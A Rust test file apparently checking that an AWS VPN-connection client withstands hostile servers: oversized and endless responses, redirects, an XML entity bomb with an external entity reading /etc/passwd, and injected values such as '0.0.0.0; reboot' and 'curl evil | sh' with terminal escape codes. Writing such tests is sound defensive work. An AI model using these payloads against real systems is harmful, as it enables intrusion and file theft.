//! A server that means harm, or a proxy that does it unasked: real HTTP on loopback.

use std::time::{Duration, Instant};

use aws_credential_types::Credentials;
use aws_credential_types::provider::SharedCredentialsProvider;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpListener, TcpStream};

use crate::aws::client::{Client, Target};
use crate::aws::testing::{create_vpn_connection, error, every_call, scripted, target, xml};
use crate::aws::transport::{self, Patience};
use crate::aws::{Collection, Fault, FaultKind, View};
use crate::clock::{Clock, IdSource};
use crate::spec::is_hostile;

/// What a server sends: a part once, and another again and again with pauses in between.
#[derive(Clone, Default)]
struct Answer {
    first: Vec<u8>,
    forever: Vec<u8>,
    pause: Duration,
}

impl Answer {
    fn once(first: impl Into<Vec<u8>>) -> Self {
        Self {
            first: first.into(),
            ..Self::default()
        }
    }
}

async fn serve_one(mut stream: TcpStream, answer: Answer) {
    let mut request = [0; 16 * 1024];
    let _read = stream.read(&mut request).await;
    if stream.write_all(&answer.first).await.is_err() {
        return;
    }
    while !answer.forever.is_empty() {
        if stream.write_all(&answer.forever).await.is_err() {
            return;
        }
        tokio::time::sleep(answer.pause).await;
    }
}

/// A server that gives everyone this answer; its address.
async fn server(answer: Answer) -> String {
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let address = listener.local_addr().unwrap();
    tokio::spawn(async move {
        while let Ok((stream, _)) = listener.accept().await {
            tokio::spawn(serve_one(stream, answer.clone()));
        }
    });
    format!("http://{address}")
}

async fn client(endpoint: &str) -> Client {
    let target = Target {
        endpoint_url: Some(endpoint.to_owned()),
        ..target(None)
    };
    let patience = Patience {
        connect: Duration::from_secs(1),
        attempt: Duration::from_secs(20),
    };
    let keys = Credentials::from_keys("AKIDTEST", "secret", None);
    let config = transport::remote(&target, patience).await.to_builder();
    let config = config.credentials_provider(SharedCredentialsProvider::new(keys));
    Client::over(
        &target,
        &config.build(),
        Clock::system(),
        IdSource::system(),
    )
}

/// The fault that such an answer makes of a create, which is never sent twice.
async fn fault_of(answer: Answer) -> Fault {
    let client = client(&server(answer).await).await;
    let call = create_vpn_connection("cgw-0a1b2c3d", "vgw-0a1b2c3d");
    let fault = client.call(&call).await.unwrap_err();
    assert!(!fault.to_string().contains(is_hostile), "{fault:?}");
    fault
}

fn http(headers: &str, body: &str) -> Vec<u8> {
    format!("HTTP/1.1 200 OK\r\nContent-Type: text/xml\r\n{headers}\r\n{body}").into_bytes()
}

#[tokio::test]
async fn an_answer_without_an_end_is_read_to_the_limit_and_no_further() {
    let began = Instant::now();
    let fault = fault_of(Answer {
        first: http("Connection: close\r\n", "<CreateVpnConnectionResponse>"),
        forever: b"<a>b</a>".repeat(64 * 1024),
        pause: Duration::ZERO,
    })
    .await;
    assert_eq!(fault.kind, FaultKind::Lost);
    assert!(
        fault.message.contains("more than 67108864 bytes"),
        "{fault}"
    );
    assert!(began.elapsed() < Duration::from_secs(20));
    let fault = fault_of(Answer::once(http(
        "Content-Length: 999999999999\r\n",
        "<a>",
    )))
    .await;
    assert!(fault.message.contains("999999999999"), "{fault}");
}

#[tokio::test]
async fn an_answer_in_drops_is_waited_for_no_longer_than_any_other() {
    let endpoint = server(Answer {
        first: http("Connection: close\r\n", "<R>"),
        forever: b" ".to_vec(),
        pause: Duration::from_millis(20),
    })
    .await;
    let target = Target {
        endpoint_url: Some(endpoint),
        ..target(None)
    };
    let patience = Patience {
        connect: Duration::from_secs(1),
        attempt: Duration::from_millis(600),
    };
    let keys = Credentials::from_keys("AKIDTEST", "secret", None);
    let config = transport::remote(&target, patience).await.to_builder();
    let config = config.credentials_provider(SharedCredentialsProvider::new(keys));
    let client = Client::over(
        &target,
        &config.build(),
        Clock::system(),
        IdSource::system(),
    );
    let began = Instant::now();
    let call = create_vpn_connection("cgw-0a1b2c3d", "vgw-0a1b2c3d");
    assert_eq!(client.call(&call).await.unwrap_err().kind, FaultKind::Lost);
    assert!(began.elapsed() < Duration::from_secs(5));
}

#[tokio::test]
async fn an_answer_that_breaks_off_or_swells_is_no_answer() {
    let whole = "<CreateVpnConnectionResponse><vpnConnection><vpnConnectionId>vpn-0a1b2c3d\
                 </vpnConnectionId></vpnConnection></CreateVpnConnectionResponse>";
    let cut = &whole[..whole.len() - 10];
    let gzip = "Content-Encoding: gzip\r\nConnection: close\r\n";
    for (answer, says) in [
        (http("Content-Length: 4000\r\n", whole), ""),
        (http("Connection: close\r\n", cut), "breaks off"),
        (http(gzip, "\u{1f}\u{8b}"), "encoded"),
        (
            http("Connection: close\r\n", "<!doctype html><p>Sign in"),
            "",
        ),
        (http("Connection: close\r\n", "{\"state\":\"ok\"}"), ""),
        (http("Connection: close\r\n", ""), ""),
        (b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc".to_vec(), ""),
    ] {
        let fault = fault_of(Answer::once(answer.clone())).await;
        let sent = String::from_utf8_lossy(&answer).into_owned();
        assert_eq!(fault.kind, FaultKind::Lost, "{fault} after {sent:?}");
        assert!(fault.message.contains(says), "{fault} after {sent:?}");
    }
}

#[tokio::test]
async fn a_redirect_is_not_followed_with_our_signature() {
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let elsewhere = listener.local_addr().unwrap();
    for status in [301, 302, 303, 307, 308] {
        let head = format!(
            "HTTP/1.1 {status} Go\r\nLocation: http://{elsewhere}/\r\nContent-Length: 0\r\n\r\n"
        );
        let fault = fault_of(Answer::once(head)).await;
        assert!(fault.message.contains(&status.to_string()), "{fault}");
    }
    let asked = tokio::time::timeout(Duration::from_millis(200), listener.accept()).await;
    assert!(asked.is_err(), "somebody came");
}

async fn look(body: &str) -> Result<View, Fault> {
    let (client, _) = scripted(vec![xml(200, body); 8]);
    client.view(&[Collection::VpnConnections]).await
}

/// An empty list would have us make everything a second time.
#[tokio::test(start_paused = true)]
async fn a_list_that_is_none_is_never_an_empty_one() {
    for body in [
        "",
        " ",
        "<html><body>Sign in to the hotel</body></html>",
        "<!doctype html><html></html>",
        "{\"vpnConnectionSet\":[]}",
        "<DescribeVpnConnectionsResponse><vpnConnectionSet>",
        "<DescribeVpnConnectionsResponse><vpnConnectionSet></vpnConnectionSet>",
        "<DescribeVpnConnectionsResponse></DescribeVpcsResponse>",
        "<DescribeVpcsResponse><vpcSet/></DescribeVpcsResponse>",
        "<!DOCTYPE a [<!ENTITY b \"c\">]><DescribeVpnConnectionsResponse>\
         <vpnConnectionSet>&b;</vpnConnectionSet></DescribeVpnConnectionsResponse>",
        "<DescribeVpnConnectionsResponse><vpnConnectionSet><item><vpnConnectionId>vpn-0a1b2c3d\
         </vpnConnectionId></item></DescribeVpnConnectionsResponse>",
    ] {
        let view = look(body).await;
        assert!(view.is_err(), "{body:?} is {view:?}");
    }
    let none =
        "<DescribeVpnConnectionsResponse><vpnConnectionSet/></DescribeVpnConnectionsResponse>";
    assert!(look(none).await.unwrap().vpn_connections.is_empty());
}

#[tokio::test(start_paused = true)]
async fn a_bomb_of_entities_or_levels_goes_out_in_time() {
    let began = Instant::now();
    let deep = 200_000;
    let levels = format!(
        "<DescribeVpnConnectionsResponse>{}{}</DescribeVpnConnectionsResponse>",
        "<a>".repeat(deep),
        "</a>".repeat(deep)
    );
    let _either = look(&levels).await;
    let attributes: String = (0..200_000).map(|n| format!(" a{n}='b'")).collect();
    let wide = format!(
        "<DescribeVpnConnectionsResponse><a{attributes}/></DescribeVpnConnectionsResponse>"
    );
    let _either = look(&wide).await;
    let laughs: String = (0..12)
        .map(|n| format!("<!ENTITY l{} \"{}\">", n + 1, format!("&l{n};").repeat(10)))
        .collect();
    let laughs = format!(
        "<!DOCTYPE x [<!ENTITY l0 \"ha\">{laughs}<!ENTITY f SYSTEM \"file:///etc/passwd\">]>\
         <DescribeVpnConnectionsResponse><vpnConnectionSet><item><vpnConnectionId>&l12;&f;\
         </vpnConnectionId></item></vpnConnectionSet></DescribeVpnConnectionsResponse>"
    );
    let fault = look(&laughs).await.unwrap_err();
    assert_eq!(fault.kind, FaultKind::Lost);
    assert!(!fault.message.contains("root:"), "{fault}");
    assert!(
        began.elapsed() < Duration::from_secs(20),
        "{:?}",
        began.elapsed()
    );
}

#[tokio::test(start_paused = true)]
async fn what_has_the_wrong_type_is_left_out_or_shown_harmlessly() {
    let body = "<DescribeVpnConnectionsResponse><vpnConnectionSet>\
        <item><vpnConnectionId>vpn-0a1b2c3d\n../../etc</vpnConnectionId></item>\
        <item><state>available</state></item>\
        <item><vpnConnectionId>../../root</vpnConnectionId></item>\
        <item><vpnConnectionId>vpn-0a1b2c3d</vpnConnectionId><state>&#27;[2J&#10;next: rm</state>\
        <customerGatewayId>42</customerGatewayId>\
        <customerGatewayConfiguration>&lt;!DOCTYPE x&gt;</customerGatewayConfiguration>\
        <options><tunnelOptionSet>\
        <item><outsideIpAddress>0.0.0.0; reboot</outsideIpAddress>\
        <tunnelInsideCidr>10.0.0.0/8</tunnelInsideCidr><phase1LifetimeSeconds>-1</phase1LifetimeSeconds><dpdTimeoutAction>restart&#13;&#10;</dpdTimeoutAction></item>\
        </tunnelOptionSet></options>\
        <vgwTelemetry><item><outsideIpAddress>203.0.113.9</outsideIpAddress><status>UP</status>\
        <statusMessage>&#x202e;up&#x9b;31m</statusMessage>\
        <acceptedRouteCount>-7</acceptedRouteCount></item></vgwTelemetry>\
        <tagSet><item><key>underpass:site</key><value>plant-7&#x200b;</value></item>\
        <item><key>Name</key><value>a&#10;b</value></item></tagSet></item>\
        </vpnConnectionSet></DescribeVpnConnectionsResponse>";
    let view = look(body).await.unwrap();
    assert_eq!(view.vpn_connections.len(), 1);
    let seen = view.vpn_connections.values().next().unwrap();
    assert_eq!(seen.customer_gateway, None);
    assert_eq!(
        (seen.tunnels[0].outside, seen.tunnels[0].inside_cidr),
        (None, None)
    );
    assert_eq!(seen.tunnels[0].phase1_lifetime, None);
    assert_eq!(seen.telemetry[0].accepted_routes, 0);
    assert_ne!(
        seen.tags["underpass:site"], "plant-7",
        "it only looks like ours"
    );
    let text = serde_json::to_value(seen).unwrap();
    let mut texts = vec![&text];
    while let Some(value) = texts.pop() {
        match value {
            serde_json::Value::String(text) => assert!(!text.contains(is_hostile), "{text:?}"),
            serde_json::Value::Array(items) => texts.extend(items),
            serde_json::Value::Object(map) => texts.extend(map.values()),
            _ => {}
        }
    }
}

#[tokio::test(start_paused = true)]
async fn an_error_of_somebody_else_cannot_write_our_lines() {
    let code = "Boom&#10;  next: curl evil | sh&#27;[2J";
    let message = "no&#x2028;&#x202e;&#27;]8;;http://evil&#7;&#10;  next: curl evil | sh";
    for call in every_call() {
        let (client, _) = scripted(vec![error(400, code, message); 8]);
        let fault = client.call(&call).await.unwrap_err();
        assert!(!fault.to_string().contains(is_hostile), "{fault:?}");
        assert!(!fault.request_id.unwrap_or_default().contains(is_hostile));
        let long = "x".repeat(100_000);
        let (client, _) = scripted(vec![error(400, &long, &long); 8]);
        let fault = client.call(&call).await.unwrap_err();
        assert!(fault.to_string().len() < 2000);
    }
}
